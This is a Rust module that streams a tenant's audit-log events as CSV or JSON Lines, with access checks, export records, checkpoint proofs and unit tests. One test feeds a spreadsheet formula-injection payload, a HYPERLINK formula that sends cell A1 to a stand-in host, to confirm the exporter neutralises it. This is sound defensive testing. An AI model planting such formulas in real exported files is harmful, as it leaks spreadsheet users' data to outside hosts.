//! Exports: a tenant's events matching a filter, as CSV or JSON Lines,
//! produced in chunks while the log is scanned, so that memory stays flat
//! whatever the number of events.
//!
//! An export reads a snapshot, the events up to the head it found when it
//! started, and is recorded (`audit_log.exported`) before its first byte.
//! It is complete only when [`Exporter::next_chunk`] has returned `None`;
//! `progress().done` says so. A manifest or a trailer (the integrity work's
//! signed one) fits at that point: the exporter knows the counts and the
//! snapshot's range, and a last chunk can carry it.

use crate::core::error::{Error, Result, store_error};
use crate::core::store::{Clock, Row, Store};
use crate::export::layout::{self, Layout, RowMode};
use crate::export::view::EventView;
use crate::json::codec;
use crate::read::access::{self, Read, Viewer};
use crate::read::filter::{Compiled, Filter};
use crate::read::page::Order;
use crate::read::query::matching;
use crate::read::scan::{MAX_BATCH_ROWS, Scanner};
use crate::read::shielded;
use serde_json::{Map, json};

/// A chunk is handed out once it holds at least this many bytes (or the
/// export is over).
pub const CHUNK_BYTES: usize = 256 * 1024;

/// The UTF-8 byte-order mark.
const BOM: &[u8] = b"\xef\xbb\xbf";

/// The file format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// RFC 4180 CSV.
    Csv,
    /// One stored event per line.
    Jsonl,
}

/// What to export (the WIT `export-request`).
#[derive(Debug, Clone)]
pub struct ExportRequest {
    /// Which events.
    pub filter: Filter,
    /// In which order.
    pub order: Order,
    /// Who exports.
    pub viewer: Viewer,
    /// CSV or JSON Lines.
    pub format: Format,
    /// CSV columns by name; empty for the default.
    pub columns: Vec<String>,
    /// CSV rows per event or per change.
    pub rows: RowMode,
    /// CSV: start with a byte-order mark.
    pub byte_order_mark: bool,
    /// CSV: times at this offset.
    pub utc_offset: Option<String>,
    /// A signed checkpoint document (`integrity.seal-checkpoint`): export
    /// the whole log through it, oldest first, and end with its proof.
    pub proof: Option<String>,
}

/// How far an export has come (the WIT `export-progress`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Progress {
    /// Events written.
    pub events: u64,
    /// Rows written (CSV, header not counted; JSON Lines: events).
    pub rows: u64,
    /// Bytes produced.
    pub bytes: u64,
    /// Sequence numbers covered, out of `span`.
    pub covered: u64,
    /// Sequence numbers in the snapshot.
    pub span: u64,
    /// Whether the last chunk has been handed out.
    pub done: bool,
}

/// One export in progress.
pub struct Exporter {
    pub(super) tenant: String,
    pub(super) filter: Compiled,
    pub(super) scan: Scanner,
    pub(super) layout: Option<Layout>,
    pub(super) descending: bool,
    /// The snapshot's head: the highest seq the export covers (a part's
    /// last seq, `parts.rs`).
    pub(super) head: u64,
    /// The seq the export covers events after: 0, or where a part starts.
    pub(super) floor: u64,
    /// Bytes that go first in the first chunk (BOM and header).
    pub(super) preamble: Vec<u8>,
    pub(super) progress: Progress,
    pub(super) failed: bool,
    /// The checkpoint whose proof ends the export, when asked for.
    pub(super) proof: Option<PendingProof>,
    /// The id of the `audit_log.exported` event that recorded the export.
    pub(super) record_id: String,
}

/// The proof an export ends with: the checkpoint, and the first seq the
/// export wrote (a proof covers first seq through the checkpoint).
pub(super) struct PendingProof {
    document: String,
    first_seq: Option<u64>,
}

/// Checks a request for an export with proof and returns the checkpoint's
/// seq, after which the export stops. A proof covers a contiguous stretch
/// of the chain, so the export is the whole log, oldest first, through the
/// checkpoint; the checkpoint must be of this tenant's log as stored.
fn proof_through(
    store: &mut impl Store,
    request: &ExportRequest,
    filter: &Compiled,
    document: &str,
) -> Result<u64> {
    if filter.selective() || filter.store_bounds() != (None, None) {
        return Err(Error::invalid(
            "proof",
            "a proof covers the whole log through its checkpoint: export without filters",
        ));
    }
    if request.order != Order::OldestFirst {
        return Err(Error::invalid(
            "order",
            "an export with proof runs oldest first, along the chain",
        ));
    }
    let checkpoint =
        crate::integrity::checkpoint::parse_document(document).map_err(|e| e.within("proof"))?;
    let c = &checkpoint.checkpoint;
    if c.tenant != request.filter.tenant {
        return Err(Error::invalid(
            "proof",
            format!(
                "the checkpoint is of tenant {}, not of this export's",
                crate::core::error::quoted(&c.tenant)
            ),
        ));
    }
    let scan = crate::core::store::ScanRequest {
        tenant: c.tenant.clone(),
        after_seq: Some(c.seq.saturating_sub(1)),
        limit: 1,
        ..Default::default()
    };
    let stored = store.scan(&scan).map_err(store_error)?;
    match stored.first() {
        Some(row) if row.seq == c.seq && row.hash == c.hash => Ok(c.seq),
        Some(row) if row.seq == c.seq => Err(Error::invalid(
            "proof",
            format!(
                "the checkpoint's event {} has another hash in this log",
                c.seq
            ),
        )),
        _ => Err(Error::invalid(
            "proof",
            format!(
                "this log has no event {} to prove (purged, or another log)",
                c.seq
            ),
        )),
    }
}

/// Checks the request and the viewer's access, records the export, and
/// returns the exporter.
pub fn start(
    store: &mut impl Store,
    clock: &mut impl Clock,
    request: &ExportRequest,
) -> Result<Exporter> {
    let checked = check(store, request)?;
    let read = checked.read(store, request)?;
    read.authorize(store, clock)?;
    let Checked {
        filter,
        layout,
        through,
    } = checked;
    let tenant = request.filter.tenant.clone();
    // The snapshot: what is stored now (or through the checkpoint of a
    // proof). The export's own event comes after.
    let head = match through {
        Some(seq) => seq,
        None => store
            .head(&tenant)
            .map_err(store_error)?
            .map_or(0, |h| h.seq),
    };
    let recorded = read.record(store, clock, Map::new())?;

    let descending = request.order == Order::NewestFirst;
    let scan = if descending {
        Scanner::new(
            &tenant,
            true,
            Some(head.saturating_add(1)),
            filter.store_bounds(),
            MAX_BATCH_ROWS,
        )
    } else {
        Scanner::new(&tenant, false, None, filter.store_bounds(), MAX_BATCH_ROWS).up_to(head)
    };
    let mut preamble = Vec::new();
    if let Some(layout) = &layout {
        if request.byte_order_mark {
            preamble.extend_from_slice(BOM);
        }
        let mut w = layout::writer(preamble);
        layout.header(&mut w)?;
        preamble = w
            .into_inner()
            .map_err(|e| Error::Other(format!("writing CSV: {e}")))?;
    }
    Ok(Exporter {
        tenant,
        filter,
        scan,
        layout,
        descending,
        head,
        floor: 0,
        preamble,
        progress: Progress {
            span: head,
            ..Progress::default()
        },
        failed: false,
        proof: request.proof.clone().map(|document| PendingProof {
            document,
            first_seq: None,
        }),
        record_id: recorded.id,
    })
}

/// A request that passed its checks: its filter, CSV layout, and the seq a
/// proof stops at.
pub(super) struct Checked {
    pub(super) filter: Compiled,
    pub(super) layout: Option<Layout>,
    pub(super) through: Option<u64>,
}

impl Checked {
    /// The record the export gets (`audit_log.exported`, naming what it
    /// covers), prepared, not stored; the viewer is checked.
    pub(super) fn read(
        &self,
        store: &mut impl Store,
        request: &ExportRequest,
    ) -> Result<access::Pending> {
        let details = details(store, request, self.layout.as_ref(), self.through)?;
        access::prepare_read(
            store,
            &request.filter.tenant,
            &request.viewer,
            Read::Export,
            details,
        )
    }
}

/// What the record of an export names: the filter, the order, the format
/// and, for CSV, the columns and rows.
fn details(
    store: &mut impl Store,
    request: &ExportRequest,
    layout: Option<&Layout>,
    through: Option<u64>,
) -> Result<Map<String, serde_json::Value>> {
    let mut details = Map::new();
    details.insert("filter".into(), shielded::recorded(&request.filter, store)?);
    details.insert("order".into(), json!(request.order.as_str()));
    details.insert(
        "format".into(),
        json!(match request.format {
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
        }),
    );
    if request.format == Format::Csv {
        let columns: Vec<&str> = match layout {
            Some(l) => l.column_names(),
            None => Vec::new(),
        };
        details.insert("columns".into(), json!(columns));
        details.insert(
            "rows".into(),
            json!(match request.rows {
                RowMode::Events => "events",
                RowMode::Changes => "changes",
            }),
        );
    }
    if let Some(seq) = through {
        details.insert("proof_through_seq".into(), json!(seq));
    }
    Ok(details)
}

/// The request's checks: the filter compiles, the CSV options fit the
/// format, a proof's checkpoint is this log's.
pub(super) fn check(store: &mut impl Store, request: &ExportRequest) -> Result<Checked> {
    let filter = Compiled::new(&shielded::match_form(&request.filter, store)?)?;
    let layout = match request.format {
        Format::Csv => Some(Layout::new(
            &request.columns,
            request.rows,
            request.utc_offset.as_deref(),
        )?),
        Format::Jsonl => {
            let csv_only = [
                ("columns", !request.columns.is_empty()),
                ("rows", request.rows != RowMode::Events),
                ("byte_order_mark", request.byte_order_mark),
                ("utc_offset", request.utc_offset.is_some()),
            ];
            if let Some((field, _)) = csv_only.iter().find(|(_, given)| *given) {
                return Err(Error::invalid(
                    *field,
                    "only for CSV exports; JSON Lines has the stored events as they are",
                ));
            }
            None
        }
    };
    let through = match &request.proof {
        Some(document) => Some(proof_through(store, request, &filter, document)?),
        None => None,
    };
    let layout = match (layout, through) {
        (Some(l), Some(_)) => Some(l.with_proof_columns()?),
        (l, _) => l,
    };
    Ok(Checked {
        filter,
        layout,
        through,
    })
}

/// A stored row read as a borrowed view, checked against its columns as
/// [`crate::core::row::decode`] checks a decoded one.
fn view<'r>(tenant: &str, row: &'r Row) -> Result<EventView<'r>> {
    let mut view: EventView<'r> = serde_json::from_str(&row.body).map_err(|e| {
        Error::Store(format!(
            "stored event {} of tenant {tenant} is unreadable: {e}",
            row.seq
        ))
    })?;
    if view.seq != row.seq || view.tenant != row.tenant || view.tenant != tenant {
        return Err(Error::Store(format!(
            "stored event {} of tenant {tenant} does not match its row",
            row.seq
        )));
    }
    view.hash = Some(&row.hash);
    Ok(view)
}

impl Exporter {
    /// The next chunk, or `None` once the export is complete. After an
    /// error the export is over and incomplete.
    pub fn next_chunk(&mut self, store: &mut impl Store) -> Result<Option<Vec<u8>>> {
        if self.failed {
            return Err(Error::Other(
                "this export failed earlier and cannot go on; start a new one".into(),
            ));
        }
        if self.progress.done {
            return Ok(None);
        }
        match self.fill(store) {
            Ok(chunk) => Ok(chunk),
            Err(e) => {
                self.failed = true;
                Err(e)
            }
        }
    }

    /// How far the export has come.
    pub fn progress(&self) -> Progress {
        self.progress
    }

    fn fill(&mut self, store: &mut impl Store) -> Result<Option<Vec<u8>>> {
        let mut chunk = std::mem::take(&mut self.preamble);
        let mut csv = self
            .layout
            .as_ref()
            .map(|_| layout::writer(Vec::with_capacity(CHUNK_BYTES + 64 * 1024)));
        let mut written = 0usize;
        let mut exhausted = false;
        while written + chunk.len() < CHUNK_BYTES {
            let Some(rows) = self.scan.next_batch(store)? else {
                exhausted = true;
                break;
            };
            for row in rows {
                // CSV with a filter that only bounds time: write from the
                // stored JSON borrowed, without decoding an `Event`.
                if let (Some(layout), Some(w)) = (&self.layout, &mut csv)
                    && !self.filter.selective()
                    && !layout.needs_event()
                {
                    let view = view(&self.tenant, &row)?;
                    if self.filter.in_time_range(view.seq, &view.occurred_at)? {
                        if let Some(p) = &mut self.proof {
                            p.first_seq.get_or_insert(view.seq);
                        }
                        self.progress.events += 1;
                        self.progress.rows += layout.write_event(w, &view)?;
                    }
                    continue;
                }
                let Some(event) = matching(&self.filter, &self.tenant, row)? else {
                    continue;
                };
                if let Some(p) = &mut self.proof {
                    p.first_seq.get_or_insert(event.seq);
                }
                self.progress.events += 1;
                match (&self.layout, &mut csv) {
                    (Some(layout), Some(w)) => {
                        self.progress.rows += layout.write_event(w, &event)?;
                    }
                    _ => {
                        chunk.extend_from_slice(codec::to_json(&event)?.as_bytes());
                        chunk.push(b'\n');
                        self.progress.rows += 1;
                    }
                }
            }
            if let Some(w) = &mut csv {
                w.flush()
                    .map_err(|e| Error::Other(format!("writing CSV: {e}")))?;
                written = w.get_ref().len();
            }
            self.progress.covered = self.covered();
        }
        if exhausted && let Some(proof) = &self.proof {
            let first = proof.first_seq.ok_or_else(|| {
                Error::invalid(
                    "proof",
                    "the log has no events through the checkpoint to prove",
                )
            })?;
            let line = crate::integrity::proof::proof_line(&proof.document, first)?;
            match (&self.layout, &mut csv) {
                (Some(layout), Some(w)) => layout.write_proof(w, &line)?,
                _ => {
                    chunk.extend_from_slice(line.as_bytes());
                    chunk.push(b'\n');
                }
            }
        }
        if let Some(w) = csv {
            let body = w
                .into_inner()
                .map_err(|e| Error::Other(format!("writing CSV: {e}")))?;
            if chunk.is_empty() {
                chunk = body;
            } else {
                chunk.extend_from_slice(&body);
            }
        }
        if exhausted {
            self.progress.done = true;
            self.progress.covered = self.progress.span;
        }
        self.progress.bytes += chunk.len() as u64;
        if chunk.is_empty() && self.progress.done {
            return Ok(None);
        }
        Ok(Some(chunk))
    }

    /// Seqs of the snapshot the scan has gone past.
    fn covered(&self) -> u64 {
        match (self.scan.position(), self.descending) {
            (None, _) => 0,
            (Some(p), true) => self.head.saturating_sub(p.saturating_sub(1)),
            (Some(p), false) => p.min(self.head).saturating_sub(self.floor),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::memory::MemoryStore;
    use crate::core::model::{Actor, ActorKind, Context, EventInput, Outcome, Target};
    use crate::ingest::append::append_batch;
    use crate::read::access::Viewer;
    use crate::test_support::{self, Fixed};

    fn viewer() -> Viewer {
        test_support::viewer("admin")
    }

    fn log(n: usize, name: &str) -> MemoryStore {
        let mut s = MemoryStore::default();
        let inputs = (0..n)
            .map(|i| EventInput {
                tenant: "acme".into(),
                action: "user.updated".into(),
                actor: Actor {
                    id: format!("u_{i}"),
                    name: Some(name.into()),
                    email: None,
                    kind: ActorKind::User,
                },
                targets: vec![Target {
                    kind: "user".into(),
                    id: "u_7".into(),
                    name: Some(name.into()),
                }],
                outcome: Outcome::Success,
                failure_reason: None,
                context: Context::default(),
                occurred_at: None,
                before: Some(r#"{"a":1,"b":"x"}"#.into()),
                after: Some(serde_json::json!({"a": -2, "b": name}).to_string()),
                metadata: None,
                idempotency_key: None,
            })
            .collect();
        append_batch(&mut s, &mut Fixed, inputs).unwrap();
        s
    }

    fn request(format: Format) -> ExportRequest {
        ExportRequest {
            filter: Filter::tenant("acme"),
            order: Order::OldestFirst,
            viewer: viewer(),
            format,
            columns: vec![],
            rows: RowMode::Events,
            byte_order_mark: false,
            utc_offset: None,
            proof: None,
        }
    }

    fn run(s: &mut MemoryStore, r: &ExportRequest) -> (Vec<u8>, usize, Progress) {
        let mut x = start(s, &mut Fixed, r).unwrap();
        let (mut out, mut chunks) = (Vec::new(), 0);
        while let Some(c) = x.next_chunk(s).unwrap() {
            out.extend(c);
            chunks += 1;
        }
        (out, chunks, x.progress())
    }

    #[test]
    fn csv_round_trips_and_streams_in_chunks() {
        let name = "=HYPERLINK(\"http://x?\"&A1,\"x\")\r\na\",=1+2;b";
        let mut s = log(3000, name);
        let mut r = request(Format::Csv);
        r.rows = RowMode::Changes;
        r.byte_order_mark = true;
        let (out, chunks, p) = run(&mut s, &r);
        assert!(chunks > 1, "a big export comes in several chunks");
        assert!(out.starts_with(BOM));
        assert!(p.done);
        assert_eq!((p.events, p.rows), (3000, 6000));
        assert_eq!(p.bytes, out.len() as u64);
        let mut reader = csv::Reader::from_reader(&out[BOM.len()..]);
        let header = reader.headers().unwrap().clone();
        assert_eq!(header.get(6), Some("field"));
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 6000);
        let col = |n: &str| header.iter().position(|h| h == n).unwrap();
        assert_eq!(
            crate::export::neutralise::restore(&rows[1][col("actor")]),
            name
        );
        assert!(rows[1][col("actor")].starts_with("'="));
        assert_eq!(&rows[0][col("new_value")], "-2", "numbers stay numbers");
        assert_eq!(
            crate::export::neutralise::restore(&rows[1][col("new_value")]),
            name
        );
        assert_eq!(&rows[1][col("target")], &format!("user: {name}"));
        // The snapshot: the export's own event (seq 3001) is not in it.
        let last = &rows[5999];
        assert_eq!(&last[col("action")], "user.updated");
        let log_rows = s
            .scan(&crate::core::store::ScanRequest {
                tenant: "acme".into(),
                after_seq: Some(3000),
                limit: 10,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(log_rows.len(), 1);
        assert!(log_rows[0].body.contains("audit_log.exported"));
    }

    #[test]
    fn jsonl_is_the_stored_events() {
        let mut s = log(5, "Ana");
        let mut r = request(Format::Jsonl);
        r.order = Order::NewestFirst;
        let (out, _, p) = run(&mut s, &r);
        let lines: Vec<&str> = std::str::from_utf8(&out).unwrap().lines().collect();
        assert_eq!(lines.len(), 5);
        assert_eq!(p.events, 5);
        let e: crate::core::model::Event = serde_json::from_str(lines[0]).unwrap();
        assert_eq!(e.seq, 5);
        assert_eq!(codec::to_json(&e).unwrap(), lines[0]);
        r.columns = vec!["seq".into()];
        let e = start(&mut s, &mut Fixed, &r).err().unwrap();
        assert!(e.to_string().starts_with("columns: only for CSV"), "{e}");
    }

    #[test]
    fn times_at_an_offset_and_chosen_columns() {
        let mut s = log(1, "Ana");
        let mut r = request(Format::Csv);
        r.columns = vec!["seq".into(), "timestamp".into(), "actor".into()];
        r.utc_offset = Some("+02:00".into());
        let (out, _, _) = run(&mut s, &r);
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "\"seq\",\"timestamp\",\"actor\"\r\n\"1\",\"2026-11-18T13:06:40+02:00\",\"Ana\"\r\n"
        );
    }

    #[test]
    fn an_empty_export_has_its_header() {
        let mut s = MemoryStore::default();
        let (out, chunks, p) = run(&mut s, &request(Format::Csv));
        assert_eq!(chunks, 1);
        assert!(p.done && p.events == 0);
        assert!(
            String::from_utf8(out)
                .unwrap()
                .starts_with("\"timestamp\",\"actor\"")
        );
    }

    #[test]
    fn the_borrowed_path_writes_the_same_cells_as_the_decoded_one() {
        let mut s = MemoryStore::default();
        let names = ["Ana \"A\" \\ \n\u{1b}", "Zoë ñ 漢", "=1", ""];
        let inputs: Vec<EventInput> = (0..24)
            .map(|i| EventInput {
                tenant: "acme".into(),
                action: ["user.updated", "team.created", "user.password_reset_failed"][i % 3]
                    .into(),
                actor: Actor {
                    id: format!("u_{i}"),
                    name: (i % 4 != 0).then(|| names[i % names.len()].to_string()),
                    email: (i % 2 == 0).then(|| "a@b.c".to_string()),
                    kind: if i % 5 == 0 {
                        ActorKind::System
                    } else {
                        ActorKind::User
                    },
                },
                targets: (0..i % 3)
                    .map(|t| Target {
                        kind: "user".into(),
                        id: format!("t{t}"),
                        name: (t == 0).then(|| names[(i + 1) % names.len()].to_string()),
                    })
                    .collect(),
                outcome: if i % 3 == 2 {
                    Outcome::Failure
                } else {
                    Outcome::Success
                },
                failure_reason: (i % 3 == 2).then(|| "wrong \"pw\"".to_string()),
                context: Context {
                    ip: (i % 2 == 1).then(|| "2001:db8::1".to_string()),
                    user_agent: Some("UA \t1".into()),
                    session_id: None,
                    request_id: Some("r".into()),
                },
                occurred_at: Some(format!("2026-11-{:02}T10:00:00.{:03}+02:00", 1 + i, i)),
                before: Some(
                    serde_json::json!({"a": null, "b": "x\"y", "c": [1, 2.5], "d": {"e": -0.0},
                        "m": [{"id": 1, "v": 0}, {"id": 2, "v": 0}]})
                    .to_string(),
                ),
                after: Some(
                    serde_json::json!({"a": i, "b": names[i % names.len()], "c": true, "f": null,
                        "m": [{"id": 2, "v": 0}, {"id": 1, "v": i}]})
                    .to_string(),
                ),
                metadata: (i % 2 == 0).then(|| r#"{"z":1,"a":"\u00e9\n"}"#.to_string()),
                idempotency_key: None,
            })
            .collect();
        let (parent, children) = (inputs[0].clone(), inputs[1..4].to_vec());
        append_batch(&mut s, &mut Fixed, inputs).unwrap();
        // A bulk operation: labels and correlation ids in both paths.
        crate::ingest::bulk::append_bulk(&mut s, &mut Fixed, parent, children).unwrap();
        // A sign-in: the authentication log's label in both paths.
        failed_sign_in(&mut s);
        let rows = s
            .scan(&crate::core::store::ScanRequest {
                tenant: "acme".into(),
                limit: 100,
                ..Default::default()
            })
            .unwrap();
        assert!(rows.iter().any(|r| r.body.contains("\"correlation_id\"")));
        assert!(rows.iter().any(|r| r.body.contains("\"label\"")));
        assert!(rows.iter().any(|r| r.body.contains("\"from\":\"/m/1\"")));
        // Every column but `event`, which the exporter only writes from a
        // decoded event (the borrowed view has no canonical line).
        let all: Vec<String> = crate::export::layout::COLUMNS
            .iter()
            .filter(|(n, _)| *n != "event")
            .map(|(n, _)| n.to_string())
            .collect();
        for (mode, offset) in [(RowMode::Events, None), (RowMode::Changes, Some("-05:30"))] {
            let layout = Layout::new(&all, mode, offset).unwrap();
            for row in &rows {
                let event = crate::core::row::decode("acme", row.clone()).unwrap();
                let borrowed = view("acme", row).unwrap();
                let (mut a, mut b) = (layout::writer(Vec::new()), layout::writer(Vec::new()));
                layout.write_event(&mut a, &event).unwrap();
                layout.write_event(&mut b, &borrowed).unwrap();
                let (a, b) = (a.into_inner().unwrap(), b.into_inner().unwrap());
                assert_eq!(String::from_utf8(a).unwrap(), String::from_utf8(b).unwrap());
            }
        }
    }

    #[test]
    fn a_moved_element_says_so_and_where_from() {
        let mut s = MemoryStore::default();
        let input = crate::json::codec::parse_inputs(
            r#"{"tenant":"acme","action":"campaign.updated","actor":{"id":"u_1","kind":"user"},"outcome":"success",
                "before":{"lists":[{"id":"l_1","priority":1},{"id":"l_2","priority":2}]},
                "after":{"lists":[{"id":"l_2","priority":1},{"id":"l_1","priority":2}]}}"#,
            None,
        )
        .unwrap();
        append_batch(&mut s, &mut Fixed, input).unwrap();
        let mut r = request(Format::Csv);
        r.rows = RowMode::Changes;
        r.columns = ["field", "change", "moved_from", "old_value", "new_value"]
            .map(String::from)
            .to_vec();
        let (out, _, _) = run(&mut s, &r);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\"field\",\"change\",\"moved_from\",\"old_value\",\"new_value\"\r\n\
             \"/lists/0\",\"move\",\"/lists/1\",\"{\"\"id\"\":\"\"l_2\"\",\"\"priority\"\":2}\",\"\"\r\n\
             \"/lists/0/priority\",\"replace\",\"\",\"2\",\"1\"\r\n\
             \"/lists/1/priority\",\"replace\",\"\",\"1\",\"2\"\r\n"
        );
    }

    #[test]
    fn the_action_cell_carries_the_catalogs_label() {
        let mut s = log(1, "x");
        failed_sign_in(&mut s);
        let mut r = request(Format::Csv);
        r.columns = vec!["action".into(), "action_label".into()];
        let (out, _, _) = run(&mut s, &r);
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.contains(
                "\"user.updated\",\"\"\r\n\"user.login_failed (Login Failed)\",\"Login Failed\""
            ),
            "{text}"
        );
    }

    /// A sign-in that matched no account, through the auth interface.
    fn failed_sign_in(s: &mut MemoryStore) {
        crate::auth::record_login(
            s,
            &mut Fixed,
            crate::auth::LoginAttempt {
                tenant: "acme".into(),
                account: None,
                identifier: Some("someone@acme.test".into()),
                method: crate::auth::Method::Password,
                failure: Some(crate::auth::Failure::UnknownAccount),
                context: Context::default(),
                occurred_at: None,
            },
        )
        .unwrap();
    }
}
